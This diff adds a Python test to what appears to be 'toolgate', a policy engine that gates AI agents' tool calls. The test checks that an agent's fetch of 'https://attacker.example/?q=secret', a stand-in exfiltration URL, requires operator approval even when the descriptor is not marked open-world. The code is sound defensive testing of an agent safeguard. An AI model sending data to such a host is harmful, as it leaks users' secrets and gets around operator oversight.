@@ -11,11 +11,13 @@ host is present and good) — lets a call reach the very host it names.
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
 
-from toolgate.policy.attributes import Attributes
+from toolgate.policy.attributes import Attributes, parse_attributes
 from toolgate.policy.engine import PolicyEngine, build_engine
 from toolgate.shared.descriptors import OperationSpec, ToolDescriptor
 from toolgate.shared.directory import PrincipalDirectory
@@ -92,3 +94,29 @@ def test_a_host_spelled_another_way_is_not_let_through(rules: PolicyEngine, url:
     IPv4-mapped address), or the host the client reaches, normalised as WHATWG does.
     """
     assert _verdict(rules, url) is Verdict.DENY, f"{url} reaches {reached}"
+
+
+def test_an_operation_that_names_a_destination_is_held_to_the_allow_list(repo_root: Path) -> None:
+    """Input: a descriptor published with ``destination = "/url"`` but without
+    ``open_world = true`` (``OperationSpec.open_world`` defaults to false for every
+    descriptor that is not an untrusted MCP server's); the shipped ``deploy/policy``
+    files; ``demo-agent`` (autonomy 1, ``allowed_hosts = ["docs.python.org",
+    "peps.python.org"]``) fetching ``https://attacker.example/?q=<stolen data>``.
+
+    Now: ``execute`` (``read-only-low-risk``): the operation is not open-world, so the
+    host is read and ignored, and the README's worked example 3 — "a fetch of
+    https://attacker.example/?q=<stolen data> waits for an operator" — does not hold.
+    Should: ``needs_approval``: an operation that names the URL it reaches is open-world
+    (or a descriptor with a ``destination`` and ``open_world = false`` is refused at publish).
+    """
+    closed = msgspec.structs.replace(WEB.operations["fetch"], open_world=False)
+    web = msgspec.structs.replace(WEB, operations={"fetch": closed})
+    policy = repo_root / "deploy/policy"
+    engine = build_engine(
+        (policy / "policy.cedar").read_text(encoding="utf-8"),
+        PrincipalDirectory.from_toml((policy / "principals.toml").read_text(encoding="utf-8")),
+        parse_attributes((policy / "attributes.toml").read_text(encoding="utf-8")),
+        [web],
+    )
+    outcome = engine.decide("demo-agent", web, "fetch", {"url": "https://attacker.example/?q=secret"})
+    assert outcome.verdict is Verdict.NEEDS_APPROVAL, outcome.reason
